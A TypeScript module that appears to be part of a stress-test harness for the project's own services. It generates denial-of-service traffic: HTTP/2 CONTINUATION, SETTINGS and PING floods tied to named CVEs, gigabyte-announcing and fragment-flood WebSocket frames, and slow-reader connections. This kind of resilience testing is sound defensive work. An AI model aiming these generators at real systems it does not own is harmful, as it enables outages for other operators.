/** Attacks by valid frames in excessive numbers or sizes. */
import type { Generator } from "./generator.ts";
import { continuations, opening, ping, settings } from "./http2-frames.ts";
import { closed, firstAnswer, openRawConnection } from "./raw-connection.ts";

const holdMs = 2_000;

const endlessHeaders = Buffer.concat([opening(), continuations(1, 2_000)]);

export const continuationFlood: Generator = {
  what: "connections of HTTP/2 with headers in 2,000 CONTINUATION frames (CVE-2024-27316)",
  perSecond: 20,
  atOnce: 40,
  run: ({ order, page }, turn) =>
    closed(
      openRawConnection(turn % 2 === 0 ? order : page, endlessHeaders, { patienceMs: holdMs }),
    ),
};

const manySettings = Buffer.concat([
  opening(),
  ...Array.from({ length: 20_000 }, () => settings()),
]);

export const settingsFlood: Generator = {
  what: "connections of HTTP/2 with 20,000 SETTINGS frames whose acknowledgements are not read (CVE-2019-9515)",
  perSecond: 10,
  atOnce: 40,
  run: ({ order, page }, turn) =>
    closed(
      openRawConnection(turn % 2 === 0 ? order : page, manySettings, {
        deaf: true,
        patienceMs: holdMs,
      }),
    ),
};

const manyPings = Buffer.concat([opening(), ...Array.from({ length: 20_000 }, ping)]);

export const pingFlood: Generator = {
  what: "connections of HTTP/2 with 20,000 PING frames whose answers are not read (CVE-2019-9512)",
  perSecond: 10,
  atOnce: 40,
  run: ({ order, page }, turn) =>
    closed(
      openRawConnection(turn % 2 === 0 ? order : page, manyPings, {
        deaf: true,
        patienceMs: holdMs,
      }),
    ),
};

const upgrade = Buffer.from(
  "GET /ws HTTP/1.1\r\nhost: localhost\r\nconnection: Upgrade\r\nupgrade: websocket\r\n" +
    "sec-websocket-version: 13\r\nsec-websocket-key: x3JJHMbDL1EzLkh9GBhXDw==\r\n\r\n",
);

/** A frame of a client (RFC 6455, 5.2), masked with zeros. `length`: the length that it announces. */
function frame(opcode: number, payload: Uint8Array, length = payload.length): Buffer {
  const head = Buffer.alloc(length < 126 ? 6 : 14);
  head.writeUInt8(opcode, 0);
  head.writeUInt8(length < 126 ? 0x80 | length : 0xff, 1);
  if (length >= 126) head.writeBigUInt64BE(BigInt(length), 2);
  return Buffer.concat([head, payload]);
}

const text = 0x81;
const firstFragment = 0x01;
const fragment = 0x00;
const pingFrame = 0x89;
const one = Buffer.from("{");
const streams: readonly Buffer[] = [
  // Announces a gigabyte and sends a little of it.
  frame(text, Buffer.alloc(65_536, 0x20), 2 ** 30),
  Buffer.concat([
    frame(firstFragment, one),
    ...Array.from({ length: 10_000 }, () => frame(fragment, one)),
  ]),
  Buffer.concat(Array.from({ length: 10_000 }, () => frame(pingFrame, Buffer.alloc(100)))),
  Buffer.concat(Array.from({ length: 10_000 }, () => frame(text, Buffer.from('{"subscribe":{}}')))),
];

export const websocketFrames: Generator = {
  what: "WebSockets with a frame of a gigabyte, 10,000 fragments, pings or subscriptions, directly and through the page",
  perSecond: 40,
  atOnce: 80,
  async run({ hub, page }, turn) {
    const url = turn % 2 === 0 ? hub : page;
    const socket = openRawConnection(url, upgrade, { patienceMs: holdMs });
    await firstAnswer(socket);
    socket.write(streams[Math.floor(turn / 2) % streams.length] ?? upgrade);
    await closed(socket);
  },
};

const subscribe = frame(text, Buffer.from('{"subscribe":{"userId":"soak"}}'));
const subscriptions = Buffer.concat([upgrade, ...Array.from({ length: 200 }, () => subscribe)]);

export const slowReaders: Generator = {
  what: "WebSockets with 200 subscriptions whose answers are not read",
  perSecond: 40,
  atOnce: 80,
  run: ({ hub, page }, turn) =>
    closed(
      openRawConnection(turn % 2 === 0 ? hub : page, subscriptions, {
        deaf: true,
        patienceMs: holdMs,
      }),
    ),
};
